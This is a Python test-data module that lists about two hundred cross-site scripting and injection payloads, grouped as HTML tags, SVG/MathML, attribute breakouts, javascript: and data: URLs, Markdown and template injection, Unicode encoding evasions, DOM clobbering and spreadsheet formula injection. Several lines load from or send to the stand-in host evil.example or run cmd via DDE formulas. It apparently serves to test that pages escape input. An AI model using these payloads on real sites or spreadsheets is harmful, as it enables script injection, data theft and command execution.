"""Two hundred texts that would run, load or order something on a page that forgot to escape.

`hit()` is a function that the proof puts into every page; whoever calls it was executed. Whoever
loads something asks `EVIL`, a host that does not exist.
"""

EVIL = "evil.example"

TAGS = """
<script>hit()</script>
<ScRiPt>hit()</sCrIpT>
<script/x>hit()</script>
<script src=//evil.example/a.js></script>
<script src="https://evil.example/a.js" async></script>
<script type=module>hit()</script>
<script>/*</script><script>*/hit()</script>
<scr<script>ipt>hit()</scr</script>ipt>
<<script>hit()//<</script>
<script>top.hit()</script>
<script nonce>hit()</script>
<img src=x onerror=hit()>
<img src=x onerror="hit()">
<img src='x' onerror='hit()'>
<img/src=x/onerror=hit()>
<img src=x onerror=&#104;it()>
<IMG SRC=//evil.example/p.png>
<img srcset="//evil.example/p.png 1x">
<img src=x:x onerror=eval(atob("aGl0KCk="))>
<img src=x onerror=alert(1)>
<img src=x onerror=confirm(1)>
<image src=x onerror=hit()>
<video src=x onerror=hit()></video>
<video><source onerror=hit()></video>
<audio src=x onerror=hit()>
<audio src=//evil.example/a.mp3 autoplay></audio>
<body onload=hit()>
<input autofocus onfocus=hit()>
<textarea autofocus onfocus=hit()></textarea>
<button autofocus onfocus=hit()>x</button>
<details open ontoggle=hit()>x</details>
<marquee onstart=hit()>x</marquee>
<div style="animation:x 1s" onanimationstart=hit()>x</div>
<div onpointerover=hit() style="position:fixed;inset:0">x</div>
<p onscrollsnapchange=hit()>x</p>
<a href=# onclick=hit()>bấm vào đây</a>
<iframe src=javascript:hit()></iframe>
<iframe srcdoc="<script>parent.hit()</script>"></iframe>
<iframe src=//evil.example/></iframe>
<object data=javascript:hit()></object>
<object data=//evil.example/x.swf></object>
<embed src=javascript:hit()>
<embed src=//evil.example/x.swf>
<frameset onload=hit()>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/a.css>
<link rel=prefetch href=//evil.example/p>
<link rel=dns-prefetch href=//evil.example>
<meta http-equiv=refresh content="0;url=//evil.example/">
<meta http-equiv=refresh content="0;javascript:hit()">
<style>@import "//evil.example/a.css";</style>
<style>*{background:url(//evil.example/b)}</style>
<style onload=hit()></style>
<form action=//evil.example/><button autofocus>Gửi</button></form>
<form><button formaction=javascript:hit()>Gửi</button></form>
<isindex type=image src=x onerror=hit()>
<template><script>hit()</script></template>
<noscript><p title="</noscript><img src=x onerror=hit()>">
<xmp><img src=x onerror=hit()></xmp>
<plaintext><img src=x onerror=hit()>
<title><img src=x onerror=hit()></title>
<dialog open onclose=hit()>x</dialog>
<object data="data:text/html;base64,PHNjcmlwdD50b3AuaGl0KCk8L3NjcmlwdD4="></object>
<portal src=//evil.example/>
"""

SVG = """
<svg onload=hit()>
<svg><script>hit()</script></svg>
<svg><script href=//evil.example/a.js /></svg>
<svg><animate onbegin=hit() attributeName=x dur=1s>
<svg><set onbegin=hit() attributeName=x to=y>
<svg><a xlink:href=javascript:hit()><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=hit()>#x">
<svg><image href=//evil.example/p.svg /></svg>
<svg><foreignObject><iframe onload=hit()></foreignObject></svg>
<svg><style><img src=x onerror=hit()></style>
<svg></p><style><a id="</style><img src=x onerror=hit()>">
<math><mtext><table><mglyph><style><img src=x onerror=hit()>
<math href=javascript:hit()>x</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=hit()>
<svg><desc><b><p></svg><img src=x onerror=hit()>
"""

BREAKOUTS = """
"><script>hit()</script>
'><script>hit()</script>
"><img src=x onerror=hit()>
'><img src=x onerror=hit()>
" onmouseover="hit()
' onmouseover='hit()
" autofocus onfocus="hit()
' autofocus onfocus='hit()
" style="background:url(//evil.example/b)
` onmouseover=`hit()
"/><svg onload=hit()>
" onfocus=hit() autofocus x="
x" accesskey="x" onclick="hit()
" data-order="new" data-text="
</textarea><script>hit()</script>
</style><script>hit()</script>
</script><script>hit()</script>
--><script>hit()</script>
<!--><script>hit()</script>
<!--><img src=x onerror=hit()>-->
]]><script>hit()</script>
<![CDATA[<script>hit()</script>]]>
</article></div></main><script>hit()</script>
</option></select><img src=x onerror=hit()>
</td></tr></table><img src=x onerror=hit()>
</mark><img src=x onerror=hit()><mark>
</blockquote><img src=x onerror=hit()>
';hit();//
";hit();//
\\";hit();//
\\u0022;hit();//
'-hit()-'
"-hit()-"
${hit()}
`${hit()}`
*/hit()/*
{"__proto__":{"onclick":"hit()"}}
"}]);hit();//
"""

ADDRESSES = """
javascript:hit()
JaVaScRiPt:hit()
javascript://evil.example/%0ahit()
java&Tab;script:hit()
java&#10;script:hit()
&#106;avascript:hit()
javascript&colon;hit()
vbscript:hit()
data:text/html,<script>hit()</script>
data:text/html;base64,PHNjcmlwdD50b3AuaGl0KCk8L3NjcmlwdD4=
data:image/svg+xml,<svg onload=hit()>
blob:https://evil.example/x
https://evil.example/"onmouseover="hit()
https://evil.example/'><img src=x onerror=hit()>
http://evil.example\\@127.0.0.1/
//evil.example/
https:evil.example
\\\\evil.example\\chia-se
/\\evil.example/
/%09/evil.example/
file:///etc/passwd
https://x:y@evil.example/<svg/onload=hit()>
"""

MARKUP = """
[bấm](javascript:hit())
[bấm](JaVaScRiPt:hit() "x")
[bấm](data:text/html,<script>hit()</script>)
![ảnh](//evil.example/p.png)
![ảnh](x"onerror="hit())
![ảnh][1] [1]: //evil.example/p.png
<javascript:hit()>
[a]: javascript:hit() [a]
[x](https://evil.example/"onclick="hit())
`<script>hit()</script>`
$$\\href{javascript:hit()}{x}$$
$\\unicode{<img src=x onerror=hit()>}$
{{constructor.constructor('hit()')()}}
{{7*7}}{{hit()}}
{% raw %}<script>hit()</script>{% endraw %}
{%import os%}{{os.system('true')}}
#{hit()}
<%= hit() %>
{hit()}
{0.__class__}{title}{x!r}
%s%n%(x)s%d
{question}{language}{count}
<v-x :x="hit()">x</v-x>
<x-on @click="hit()">x</x-on>
{@html '<img src=x onerror=hit()>'}
"""

UNICODE = """
＜script＞hit()＜/script＞
<script\u200b>hit()</script\u200b>
<\u200bscript>hit()</script>
\ufeff<script>hit()</script>
\u202e<script>hit()</script>
<ſcript>hit()</ſcript>
<script>hit\u2028()</script>
<img src=x onerror\u00a0=hit()>
‹img src=x onerror=hit()›
<img\u3000src=x\u3000onerror=hit()>
<ımg src=x onerror=hit()>
%3Cscript%3Ehit()%3C/script%3E
%253Cscript%253Ehit()%253C/script%253E
&lt;script&gt;hit()&lt;/script&gt;
&#60;script&#62;hit()&#60;/script&#62;
&#x3c;img src=x onerror=hit()&#x3e;
&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;
\\u003cscript\\u003ehit()\\u003c/script\\u003e
\\x3cscript\\x3ehit()\\x3c/script\\x3e
+ADw-script+AD4-hit()+ADw-/script+AD4-
<script>hit()</script≯
<a\u0301 href=javascript:hit()>x</a>
"""

ORDERS = """
<button data-order="opinion" data-good="true" autofocus>x</button>
<button data-copy="x" autofocus>x</button>
<form id="question" name="documentElement"><input name="hochoi"></form>
<a id=hochoi><a id=hochoi name=words href=javascript:hit()>
<img name=querySelector><img name=cookie>
<p data-t="app_name" data-t-values='{"names":"<img src=x onerror=hit()>"}'>x</p>
<i data-t-title="hit()" data-reload="1">x</i>
"""

FORMULAS = """
=HYPERLINK("https://evil.example/";"bấm")
=cmd|' /C calc'!A0
+cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
=1+1","=IMPORTXML("https://evil.example/";"//a")
=WEBSERVICE("https://evil.example/")
"""

GROUPS = {
    "tags": TAGS,
    "svg": SVG,
    "breakouts": BREAKOUTS,
    "addresses": ADDRESSES,
    "markup": MARKUP,
    "unicode": UNICODE,
    "orders": ORDERS,
    "formulas": FORMULAS,
}
PAYLOADS: tuple[str, ...] = tuple(
    line for group in GROUPS.values() for line in group.strip("\n").split("\n") if line
)
